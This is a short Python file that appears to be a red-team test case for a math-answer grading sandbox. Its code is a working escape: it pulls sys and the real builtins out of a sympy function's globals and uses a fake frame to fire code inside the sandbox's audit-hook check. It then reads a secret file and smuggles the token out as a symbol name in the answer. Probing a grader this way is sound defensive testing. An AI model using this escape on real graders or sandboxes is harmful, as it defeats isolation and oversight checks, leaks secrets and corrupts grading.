"""effect: read-secret
tries: a sympy function's __globals__/__builtins__ give sys and the real builtins; a fake frame passed to the hook's 'sys._getframe' check runs our f_code property while busy and reads the 0644 secret.

Getter variant: no inspect module at all to reach sys and builtins.
"""

from lagrade.answer import *

# the __globals__ of a sympy function (not audited) hold the modules that sympy module imported
from sympy.core.intfunc import integer_nthroot
from sympy.core.add import attrgetter

sys_ = attrgetter("_" + "_globals__")(integer_nthroot)["s" + "ys"]
B = attrgetter("_" + "_builtins__")(integer_nthroot)
inspect = B["_" + "_import_" + "_"]("inspect")
members = lambda obj: dict(inspect.getmembers(obj))
os_ = members(sys_)["modules"]["o" + "s"]

box = []


def work():
    box.append(B["op" + "en"]("/tmp/lagrade-redteam/open/secret-0644.txt").read().strip())

ran = []


def once():
    if not ran:
        ran.append(1)
        work()


# route 1 through "sys._getframe": the hook reads frame.f_code.co_filename of its argument
Code = type("Code", (object,), {"co_filename": "nowhere.py"})


def f_code(self):
    once()
    return Code()


FakeFrame = type("FakeFrame", (object,), {"f_code": property(f_code)})
sys_.audit("sys._getframe", FakeFrame())
once()  # if no hook ran it (none installed, or one that never calls student code): try anyway

L = Symbol(box[0] if box else "nothing_stolen")   # the stolen token comes back as the Lagrangian's read_as
